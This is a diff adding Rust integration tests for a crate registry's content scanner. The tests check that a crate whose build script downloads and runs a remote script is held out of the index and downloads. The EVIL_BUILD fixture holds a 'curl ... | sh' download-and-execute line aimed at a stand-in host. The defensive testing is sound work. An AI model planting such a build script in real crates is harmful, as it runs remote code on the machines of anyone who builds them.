@@ -1,0 +1,164 @@
+//! The content scanner through the binary: `wharf scan` on `.crate` files, and a malicious crate
+//! published with the real cargo, held out of the index and downloads.
+
+mod support;
+
+use std::process::Command;
+
+use support::{Backend, Wharf};
+use wharf_tarball::test_support::TarballBuilder;
+
+backend_tests!(scan_judges_crate_files, malicious_publish_is_held);
+
+/// A build script that pipes a download into a shell: the shape of a payload moved into a fresh
+/// dependency.
+const EVIL_BUILD: &str = r#"use std::process::Command;
+
+fn main() {
+    let _ = Command::new("sh")
+        .arg("-c")
+        .arg("curl -fsSL https://setup-cdn.example-tools.net/i.sh | sh")
+        .status();
+}
+"#;
+
+const GIT_HASH_BUILD: &str = r#"use std::process::Command;
+
+fn main() {
+    let out = Command::new("git").args(["rev-parse", "HEAD"]).output();
+    let hash = out.map(|o| String::from_utf8_lossy(&o.stdout).trim().to_owned()).unwrap_or_default();
+    println!("cargo:rustc-env=GIT_HASH={hash}");
+}
+"#;
+
+fn crate_with_build(name: &str, build: &str) -> Vec<u8> {
+    let dir = format!("{name}-0.1.0");
+    TarballBuilder::new()
+        .file(
+            &format!("{dir}/Cargo.toml"),
+            format!(
+                "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                 description = \"Helpers\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n"
+            ),
+        )
+        .file(&format!("{dir}/build.rs"), build)
+        .file(
+            &format!("{dir}/src/lib.rs"),
+            "pub fn version() -> &'static str { env!(\"GIT_HASH\") }\n",
+        )
+        .build()
+}
+
+fn scan_json(wharf: Option<&Wharf>, files: &[&std::path::Path]) -> Vec<serde_json::Value> {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_wharf"));
+    if let Some(wharf) = wharf {
+        command
+            .arg("--data-dir")
+            .arg(wharf.data_dir())
+            .arg("--database-url")
+            .arg(&wharf.db.url);
+    }
+    let output = command
+        .arg("scan")
+        .arg("--json")
+        .args(files)
+        .env("RUST_LOG", "warn")
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8(output.stdout)
+        .unwrap()
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect()
+}
+
+fn scan_judges_crate_files(backend: Backend) {
+    let dir = tempfile::tempdir().unwrap();
+    // The file names lie; the manifest inside decides.
+    let evil = dir.path().join("serde-1.0.0.crate");
+    std::fs::write(&evil, crate_with_build("quick-helpers", EVIL_BUILD)).unwrap();
+    let benign = dir.path().join("benign.crate");
+    std::fs::write(&benign, crate_with_build("version-stamp", GIT_HASH_BUILD)).unwrap();
+    let broken = dir.path().join("broken.crate");
+    std::fs::write(&broken, b"not a crate").unwrap();
+
+    let lines = scan_json(None, &[&evil, &benign, &broken]);
+    assert_eq!(lines.len(), 3, "{lines:?}");
+    assert_eq!(lines[0]["file"], evil.display().to_string());
+    assert_eq!(lines[0]["name"], "quick-helpers");
+    assert_eq!(lines[0]["version"], "0.1.0");
+    assert_eq!(lines[0]["verdict"], "hold", "{}", lines[0]);
+    let finding = lines[0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "scan.download-execute")
+        .unwrap_or_else(|| panic!("{}", lines[0]));
+    assert_eq!(finding["severity"], "hold");
+    assert_eq!(finding["file"], "build.rs");
+    assert!(finding["line"].as_u64().unwrap() > 0);
+    assert!(finding["evidence"].as_str().unwrap().contains("curl"));
+    assert_eq!(lines[1]["name"], "version-stamp");
+    assert_eq!(lines[1]["verdict"], "allow", "{}", lines[1]);
+    assert_eq!(lines[2]["verdict"], "reject");
+    assert!(lines[2]["name"].is_null());
+
+    // With a registry, name rules run too: a reserved name.
+    let wharf = Wharf::start(backend);
+    wharf.cli(&["admin", "reserved", "add", "version-stamp"]);
+    let lines = scan_json(Some(&wharf), &[&benign]);
+    assert_eq!(lines[0]["verdict"], "reject", "{}", lines[0]);
+}
+
+fn malicious_publish_is_held(backend: Backend) {
+    let wharf = Wharf::start(backend);
+    let token = wharf.user_with_token("mallory");
+    let mallory = wharf.cargo_user("mallory").with_token(&token);
+    let dir = mallory.new_crate("quick-helpers", "0.1.0", "", "pub fn help() -> u32 { 1 }\n");
+    std::fs::write(dir.join("build.rs"), EVIL_BUILD).unwrap();
+    let out = mallory.publish_ok(&dir);
+    assert!(out.stderr.contains("held"), "{}", out.stderr);
+
+    // Stored, but out of the index and downloads.
+    assert_eq!(wharf.get("/index/qu/ic/quick-helpers").status(), 404);
+    assert_eq!(
+        wharf
+            .get("/api/v1/crates/quick-helpers/0.1.0/download")
+            .status(),
+        404
+    );
+    let findings: serde_json::Value = wharf
+        .http()
+        .get(format!(
+            "{}/api/v1/crates/quick-helpers/0.1.0/findings",
+            wharf.url
+        ))
+        .header("Authorization", &token)
+        .send()
+        .unwrap()
+        .json()
+        .unwrap();
+    assert_eq!(findings["verdict"], "hold", "{findings}");
+    assert!(
+        findings["findings"]
+            .to_string()
+            .contains("scan.download-execute"),
+        "{findings}"
+    );
+
+    // A project depending on it cannot resolve it.
+    let victim = wharf.cargo_user("victim");
+    let app = victim.new_app(
+        "victim-app",
+        "quick-helpers = { version = \"0.1\", registry = \"wharf\" }",
+        "fn main() {}\n",
+    );
+    let build = victim.cargo(&app, &["generate-lockfile"]);
+    assert!(!build.success, "{}", build.stdout);
+    assert!(build.stderr.contains("quick-helpers"), "{}", build.stderr);
+}
